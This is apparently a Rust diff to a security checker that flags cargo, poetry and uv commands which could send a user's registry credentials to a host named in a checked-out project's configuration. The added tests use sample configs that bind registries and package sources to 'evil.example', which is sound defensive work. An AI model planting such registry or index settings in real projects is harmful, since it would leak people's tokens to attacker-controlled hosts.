@@ -483,6 +483,12 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
                         f.display()
                     ));
                 }
+                if w.cx.look.is_file(&f) && toml_has(&f, &cargo_config_binds_registry) {
+                    return Some(format!(
+                        "`{}` gives a registry name its index (or makes one the default): cargo sends the person's token for that name to the host the file names",
+                        f.display()
+                    ));
+                }
             }
         }
         return None;
@@ -553,6 +559,35 @@ fn reads_code(u: &Unit, dir: &Path, cx: &CheckCtx, w: &LineWrites) -> Option<Str
     {
         return Some(format!(
             "`{}` names the Python interpreter or environment `{base}` runs to learn about it",
+            f.display()
+        ));
+    }
+    // poetry and uv look a package source's credentials up by the source's name (poetry's
+    // `http-basic.NAME` and keyring entries, `POETRY_HTTP_BASIC_NAME_PASSWORD`; uv's
+    // `UV_INDEX_NAME_PASSWORD`), and the project's configuration gives that name its URL
+    // (`[[tool.poetry.source]]`, `[[tool.uv.index]]`, `[[index]]` in `uv.toml`): a verb that
+    // asks the sources about newer versions sends the person's credentials to the host the
+    // checkout names.
+    if matches!(base, "uv" | "poetry")
+        && queries_sources(base, u)
+        && let Some(f) = project_dirs(dir, root).find_map(|d| {
+            let files: &[(&str, &[&str])] = if base == "uv" {
+                &[
+                    ("uv.toml", &["index"]),
+                    ("pyproject.toml", &["tool", "uv", "index"]),
+                ]
+            } else {
+                &[("pyproject.toml", &["tool", "poetry", "source"])]
+            };
+            files.iter().find_map(|(name, key)| {
+                let f = d.join(name);
+                (w.has(&f) || w.cx.look.is_file(&f) && toml_has(&f, &|t| has_key(t, key)))
+                    .then_some(f)
+            })
+        })
+    {
+        return Some(format!(
+            "`{}` names package sources: `{base}` would send the person's credentials for a source's name to the host the file gives it",
             f.display()
         ));
     }
@@ -1843,6 +1878,25 @@ fn venv_verb(base: &str, u: &Unit) -> bool {
     }
 }
 
+/// A verb of poetry or uv that asks the package sources about newer versions: `poetry show`
+/// with `--outdated`/`--latest` (`-o`, `-l`, also in a bundle), `uv pip list --outdated`.
+fn queries_sources(base: &str, u: &Unit) -> bool {
+    let words = operand_words(u, base);
+    let has = |long: &[&str], short: &[char]| {
+        u.args().map(text).any(|a| {
+            long.contains(&a)
+                || !a.starts_with("--")
+                    && a.strip_prefix('-')
+                        .is_some_and(|b| b.chars().any(|c| short.contains(&c)))
+        })
+    };
+    match (base, &words[..]) {
+        ("poetry", ["show", ..]) => has(&["--outdated", "--latest"], &['o', 'l']),
+        ("uv", ["pip", "list", ..]) => has(&["--outdated"], &[]),
+        _ => false,
+    }
+}
+
 /// `pnpm -v`, `pnpm --version` (and npm's): answered before the configuration is read.
 fn pnpm_version_only(u: &Unit) -> bool {
     let mut args = u.args().map(text);
@@ -2518,6 +2572,28 @@ fn has_key(t: &toml::Table, path: &[&str]) -> bool {
     true
 }
 
+/// Whether a cargo config binds a registry name to an index of its own choosing: a
+/// `[registries.NAME]` table with an `index`, a `[source.NAME]` replacement that is a
+/// `registry`, or `registry.default` / `registry.index`. cargo looks the token up by the name
+/// (`~/.cargo/credentials.toml`, `CARGO_REGISTRIES_NAME_TOKEN`, a credential provider) and
+/// sends it to the index when the index asks for it (`"auth-required": true` in its
+/// `config.json`): `cargo tree`, `cargo metadata` and `cargo search` read the index.
+fn cargo_config_binds_registry(t: &toml::Table) -> bool {
+    let named = |table: &str, key: &str| {
+        t.get(table)
+            .and_then(toml::Value::as_table)
+            .is_some_and(|rs| {
+                rs.values()
+                    .filter_map(toml::Value::as_table)
+                    .any(|r| r.contains_key(key))
+            })
+    };
+    has_key(t, &["registry", "default"])
+        || has_key(t, &["registry", "index"])
+        || named("registries", "index")
+        || named("source", "registry")
+}
+
 /// Whether a cargo config names a program cargo runs for `sub` (the subcommand, if any).
 fn cargo_config_runs(t: &toml::Table, sub: Option<&str>) -> bool {
     let build = [
@@ -2794,6 +2870,73 @@ mod tests {
         );
         assert!(flagged(root, "rustc --version").is_some());
         assert!(flagged(root, "cargo fmt --check").is_some());
+    }
+
+    #[test]
+    fn registry_names_bound_by_the_checkout() {
+        let t = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+        let root = t.path();
+        // A vendored source (`directory`) and network settings keep their allow.
+        write(
+            root,
+            ".cargo/config.toml",
+            "[source.crates-io]\nreplace-with = \"vendored\"\n[source.vendored]\ndirectory = \"vendor\"\n[net]\nretry = 2\n",
+        );
+        assert_eq!(flagged(root, "cargo tree"), None);
+        for cfg in [
+            "[registries.internal]\nindex = \"sparse+https://evil.example/\"\n",
+            "[registry]\ndefault = \"internal\"\n",
+            "[registry]\nindex = \"https://evil.example/index\"\n",
+            "[source.crates-io]\nreplace-with = \"internal\"\n[source.internal]\nregistry = \"sparse+https://evil.example/\"\n",
+        ] {
+            write(root, ".cargo/config.toml", cfg);
+            for cmd in [
+                "cargo tree",
+                "cargo metadata",
+                "cargo search serde",
+                "cargo info serde",
+            ] {
+                assert!(flagged(root, cmd).is_some(), "{cmd} with {cfg}");
+            }
+        }
+        std::fs::remove_file(root.join(".cargo/config.toml")).unwrap_or_else(|e| panic!("{e}"));
+        // poetry's sources and uv's named indexes, for the verbs that ask them about versions.
+        write(
+            root,
+            "pyproject.toml",
+            "[tool.poetry]\nname = \"x\"\n[[tool.poetry.source]]\nname = \"internal\"\nurl = \"https://evil.example/simple\"\n",
+        );
+        for cmd in [
+            "poetry show --outdated",
+            "poetry show -o",
+            "poetry show --latest",
+            "poetry show -T -l",
+            "poetry show -lo",
+        ] {
+            assert!(flagged(root, cmd).is_some(), "{cmd}");
+        }
+        for cmd in [
+            "poetry show --tree",
+            "poetry search x",
+            "uv pip list --outdated",
+        ] {
+            assert_eq!(flagged(root, cmd), None, "{cmd}");
+        }
+        write(
+            root,
+            "pyproject.toml",
+            "[project]\nname = \"x\"\n[[tool.uv.index]]\nname = \"internal\"\nurl = \"https://evil.example/simple\"\n",
+        );
+        assert!(flagged(root, "uv pip list --outdated").is_some());
+        assert_eq!(flagged(root, "uv pip list"), None);
+        assert_eq!(flagged(root, "poetry show -o"), None);
+        std::fs::remove_file(root.join("pyproject.toml")).unwrap_or_else(|e| panic!("{e}"));
+        write(
+            root,
+            "uv.toml",
+            "[[index]]\nname = \"internal\"\nurl = \"https://evil.example/simple\"\n",
+        );
+        assert!(flagged(root, "uv pip list --outdated").is_some());
     }
 
     #[test]
